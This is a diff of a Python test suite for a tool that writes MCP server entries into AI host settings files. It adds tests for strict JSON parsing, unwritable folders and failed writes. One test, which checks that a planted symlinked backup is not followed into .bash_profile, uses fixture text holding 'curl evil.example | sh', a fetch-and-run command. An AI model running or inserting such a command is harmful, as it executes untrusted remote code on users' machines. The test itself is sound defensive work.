@@ -2,8 +2,10 @@
 
 from __future__ import annotations
 
+import errno
 import json
 import os
+import sys
 import tempfile
 import tomllib
 from pathlib import Path
@@ -13,8 +15,9 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
+from bridge.agreed import system
 from bridge.agreed.errors import TandemError
-from bridge.hosts import change
+from bridge.hosts import change, setup
 from bridge.hosts.known import HOSTS, Host, Launch, Platform, Surroundings, installed
 
 LAUNCH = Launch("codebase", "/opt/venv/bin/codebase-server", ("--root", "/p"))
@@ -48,7 +51,7 @@ def settings_files(draw: st.DrawFn, host: Host) -> str | None:
         inner[host.section[-1]] = draw(servers)
     indent = draw(st.sampled_from([None, 1, 2, 4, "\t"]))
     text = json.dumps(document, indent=indent, ensure_ascii=draw(st.booleans()))
-    if draw(st.booleans()):
+    if not host.strict and draw(st.booleans()):
         text = text.replace("{", "{ // ours\n", 1)
     if draw(st.booleans()):
         text = text.replace("\n", "\r\n")
@@ -185,7 +188,7 @@ def of_a_project(tmp_path: Path) -> tuple[Host, Surroundings, Path]:
 def test_a_backup_that_a_repository_has_put_there_is_not_followed(tmp_path: Path) -> None:
     """Its settings file would be copied to wherever the link leads: into the user's start-up files, say."""
     host, here, file = of_a_project(tmp_path)
-    file.write_text("{ /*\ncurl evil.example | sh\n*/ }")
+    file.write_text('{"curl evil.example":\n\n1}')
     victim = tmp_path / ".bash_profile"
     file.with_name(file.name + ".before-tandem").symlink_to(victim)
     with pytest.raises(TandemError, match="nothing was written") as refused:
@@ -225,3 +228,68 @@ def test_the_backup_of_settings_with_keys_is_as_private_as_they_were(tmp_path: P
     backup = change.adding(HOSTS[0], LAUNCH, here).write()
     assert backup is not None
     assert (backup.stat().st_mode & 0o777, file.stat().st_mode & 0o777) == (0o600, 0o600)
+
+
+@pytest.mark.parametrize("text", ['{"mcpServers": {},}', "{ // mine\n}", '{"a": [1,]}'])
+def test_a_host_that_reads_strictly_is_given_no_entry_in_a_file_that_it_cannot_read(
+    tmp_path: Path, text: str
+) -> None:
+    here = around(tmp_path)
+    for host in HOSTS:
+        if host.syntax == "toml":
+            continue
+        file = host.file(here)
+        file.parent.mkdir(parents=True, exist_ok=True)
+        file.write_text(text, encoding="utf-8")
+        if not host.strict:
+            assert change.adding(host, LAUNCH, here).needed
+            continue
+        with pytest.raises(TandemError, match="line 1: it has comments or trailing commas") as told:
+            change.adding(host, LAUNCH, here)
+        assert told.value.code == "settings_unreadable"
+        assert file.read_text(encoding="utf-8") == text
+    assert {host.key for host in HOSTS if host.strict} == {"claude-desktop", "claude-code"}
+
+
+@pytest.mark.skipif(sys.platform != "linux", reason="/proc takes no files from anybody")
+def test_a_folder_that_cannot_be_written_is_told_with_the_next_step() -> None:
+    here = around(Path("/proc/self"))
+    for host in HOSTS:
+        with pytest.raises(TandemError, match=r"cannot be written .*nothing was changed") as told:
+            change.adding(host, LAUNCH, here).write()
+        assert told.value.code == "settings_not_writable"
+        assert "setup --print" in told.value.hint
+
+
+def test_a_write_that_fails_half_way_leaves_nothing_beside(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    here = around(tmp_path)
+    host = HOSTS[0]
+
+    def full(new: object, file: object) -> None:
+        raise OSError(errno.ENOSPC, "No space left on device")
+
+    monkeypatch.setattr(system, "put_in_place", full)
+    with pytest.raises(TandemError, match="No space left on device") as told:
+        change.adding(host, LAUNCH, here).write()
+    assert told.value.hint.startswith("Free some space")
+    assert not list(host.file(here).parent.iterdir())
+
+
+def test_setup_says_what_to_do_after_each_and_what_is_to_know_of_a_project_s_file(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    here = around(tmp_path)
+    code = next(host for host in HOSTS if host.key == "claude-code")
+    for remove, said, unsaid in (
+        (False, "approve the server", "until they end"),
+        (True, "until they end", "approve the server"),
+    ):
+        wanted = setup.Wanted(yes=True, verify=False, remove=remove)
+        setup.run([code], lambda host: LAUNCH, here, wanted, trial=("none", {}))
+        told = capsys.readouterr().out
+        assert said in told
+        assert unsaid not in told
+        assert ("usually committed" in told) == (not remove)
+    assert not code.file(here).exists()
